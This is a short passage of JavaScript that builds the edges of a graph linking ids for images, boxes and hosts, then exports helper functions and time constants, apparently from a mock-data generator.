		edges: [...own.map((p) => ({ from: "v", to: `p${p.id}` })), ...some.map((i, n) => ({ from: `p${own[n % 3].id}`, to: i.id })), ...boxes.map((c) => ({ from: c.image_id, to: c.id })), ...boxes.map((c) => ({ from: c.id, to: c.host_id }))],
	};
}

export { pick, int, hex, DAY, HOUR, MIN };
